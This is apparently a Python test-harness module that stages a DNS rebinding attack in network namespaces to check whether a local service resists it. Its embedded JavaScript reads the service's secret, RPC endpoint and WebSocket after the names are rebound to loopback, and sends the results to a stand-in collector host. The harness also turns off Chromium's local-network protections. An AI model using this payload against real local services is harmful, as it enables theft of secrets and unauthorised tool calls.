"""DNS rebinding: an attacker's page, name server and web server, a local service to be read, and the browser between them.

The attacker has public addresses in the server's namespace, and names that the test turns to loopback once the page is there. A browser keeps
an answer for a minute whatever its TTL says, and a page waits for as long; that a test need not, the machine gets a further address, upon which
Chromium looks names up anew.
"""

from __future__ import annotations

import json
import sys
import tempfile
import time
import urllib.parse
from pathlib import Path

from .proc import Process, must
from .testbed import ETC_NETNS, Testbed

PORT, COLLECTOR_PORT = 8080, 8081
PUBLIC = {4: "203.0.113.80", 6: "2001:db8:80::80"}
LOOPBACK = {4: "127.0.0.1", 6: "::1"}
SECRET = "the owner's own secret"
NAMES = {4: "v4.attacker.test", 6: "v6.attacker.test"}  # Each has addresses of one family.
RPC = '{"jsonrpc": "2.0", "id": 1, "method": "tools/list"}'

SCRIPT = """
const rpc = '%s';
const nap = (ms) => new Promise((done) => setTimeout(done, ms));
const say = (key, value) => fetch('http://collector.test:%d/said?' + encodeURIComponent(JSON.stringify([location.hostname, key, value])), {mode: 'no-cors'});
async function ask(url, options) {
  try {
    const answer = await fetch(url, {...options, cache: 'no-store', signal: AbortSignal.timeout(5000)});
    return answer.type === 'opaque' ? 'opaque' : answer.status + ' ' + await answer.text();
  } catch (error) { return 'error ' + error.message; }
}
const open = (url) => new Promise((done) => {
  const socket = new WebSocket(url);
  socket.onmessage = (message) => done('word ' + message.data);
  socket.onerror = () => done('error');
  setTimeout(() => done('silence'), 5000);
});
async function read_own(tries, strange) {
  let secret = '';
  for (let i = 0; i < tries; ++i) {
    secret = await ask('/secret');
    if (!strange(secret)) break;
    await nap(400);
  }
  await say('secret', secret);
  await say('rpc', await ask('/mcp', {method: 'POST', body: rpc, headers: {'Content-Type': 'application/json'}}));
  await say('events', await ask('/events'));
  await say('socket', await open('ws://' + location.host + '/ws'));
}
""" % (RPC, COLLECTOR_PORT)

FRAMES = "<html><body>" + "".join(f'<iframe src="http://{name}:{PORT}/rebind.html"></iframe>' for name in NAMES.values()) + "</body></html>"
REBIND = f"""<html><body><script>{SCRIPT}
(async () => {{
  await say('loaded', '');
  await read_own(20, (text) => text.includes("the attacker's") || text.startsWith('error'));
  await say('done', '');
}})();
</script></body></html>"""
CROSS = f"""<html><body><script>{SCRIPT}
(async () => {{
  for (const host of ['127.0.0.1', '[::1]', 'localhost']) {{
    await say('post ' + host, await ask(`http://${{host}}:{PORT}/mcp`, {{method: 'POST', mode: 'no-cors', body: rpc}}));
    await say('socket ' + host, await open(`ws://${{host}}:{PORT}/ws`));
  }}
  await say('done', '');
}})();
</script></body></html>"""
OWN = f"<html><body><script>{SCRIPT}\n(async () => {{ await read_own(1, () => false); await say('done', ''); }})();</script></body></html>"

# Chromium itself asks the user, by now, before a public page may reach a local address; headless, it refuses. Other browsers do not, users say yes, and
# a page that a proxy or a tunnel handed over does not count as public: the attacks are shown as they are without that.
FEATURES = "LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights"
BROWSER = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync", "--disable-background-networking",
           "--disable-component-update", "--disable-dev-shm-usage", f"--disable-features={FEATURES}"]


class Attack:
    """Attack needs a testbed in host mode without a hop: its client is the machine that is attacked, its server the attacker."""

    def __init__(self, bed: Testbed):
        self.bed = bed
        self.state = bed.scratch / "names.json"
        self.asked, self.said = bed.scratch / "asked.jsonl", bed.scratch / "said.jsonl"
        self._visits = 0
        (ETC_NETNS / bed.client / "resolv.conf").write_text(f"nameserver {PUBLIC[4]}\noptions timeout:1 attempts:2\n")
        for family, prefix in ((4, 32), (6, 128)):
            must(["ip", "-n", bed.server, "addr", "add", f"{PUBLIC[family]}/{prefix}", "dev", "west", *(["nodad"] if family == 6 else [])])
        self._start()

    def _start(self) -> None:
        own, foreign = self.bed.scratch / "own", self.bed.scratch / "foreign"
        for folder, files in ((own, {"index.html": OWN, "secret": SECRET}),
                              (foreign, {"index.html": FRAMES, "rebind.html": REBIND, "cross.html": CROSS, "secret": "the attacker's own"})):
            folder.mkdir()
            for name, text in files.items():
                (folder / name).write_text(text)
        support = Path(__file__).parent
        self.turn(PUBLIC)
        self.bed.spawn("server", "names", [sys.executable, str(support / "rebinding_dns.py"), PUBLIC[4], str(self.state)])
        self._serve("server", "attacker", foreign, self.said, [(a, p) for a in PUBLIC.values() for p in (PORT, COLLECTOR_PORT)])
        self._serve("client", "service", own, self.asked, [(a, PORT) for a in LOOPBACK.values()])
        self.bed.wait_listening("server", "udp", 53)

    def _serve(self, where: str, name: str, folder: Path, log: Path, places: list[tuple[str, int]]) -> None:
        program = Path(__file__).with_name("raw_http.py")
        self.bed.spawn(where, name, [sys.executable, str(program), str(folder), str(log), *(f"{address},{port}" for address, port in places)])
        for _, port in places:
            self.bed.wait_listening(where, "tcp", port)

    def turn(self, addresses: dict[int, str]) -> None:
        """turn gives the attacker's names other addresses."""
        names = {NAMES[family]: [addresses[family]] for family in (4, 6)}
        names |= {"attacker.test": [PUBLIC[4]], "collector.test": [PUBLIC[4]]}
        self.state.write_text(json.dumps(names))

    def bytes_at_service(self) -> bytes:
        """bytes_at_service returns all that the local service ever read."""
        lines = self.asked.read_text().splitlines() if self.asked.exists() else []
        return b"".join(bytes.fromhex(json.loads(line)["data"]) for line in lines)

    def reports(self) -> list[list[str]]:
        """reports returns what pages said: [host of the page, key, value]."""
        out = []
        for line in self.said.read_text().splitlines() if self.said.exists() else []:
            head = bytes.fromhex(json.loads(line)["data"]).split(b" ", 2)
            if len(head) == 3 and head[1].startswith(b"/said?"):
                out.append(json.loads(urllib.parse.unquote(head[1].decode().partition("?")[2])))
        return out

    def visit(self, url: str, pages: set[str], rebind: bool = False, seconds: float = 60.0) -> dict[str, dict[str, str]]:
        """visit returns {host of a page: {key: value}} once all `pages` are done. With `rebind` the names turn when they are loaded."""
        self.turn(PUBLIC)
        self._visits += 1
        since, turned = len(self.reports()), not rebind
        with tempfile.TemporaryDirectory() as profile:
            browser = self.bed.spawn("client", f"chromium-{self._visits}", [*BROWSER, f"--user-data-dir={profile}", url])
            try:
                deadline = time.monotonic() + seconds
                while time.monotonic() < deadline:
                    new = self.reports()[since:]
                    if {host for host, key, _ in new if key == "done"} >= pages:
                        return {page: {key: value for host, key, value in new if host == page} for page in pages}
                    if not turned and {host for host, key, _ in new if key == "loaded"} >= pages:
                        self._rebind()
                        turned = True
                    time.sleep(0.2)
                raise AssertionError(f"the page is not done; it said {self.reports()[since:]}\n{browser.err()[-600:]}")
            finally:
                browser.stop(3.0)
                self.turn(PUBLIC)

    def _rebind(self) -> None:
        self.turn(LOOPBACK)
        must(["ip", "-n", self.bed.client, "addr", "add", f"10.91.9.{100 + self._visits}/24", "dev", "east"])
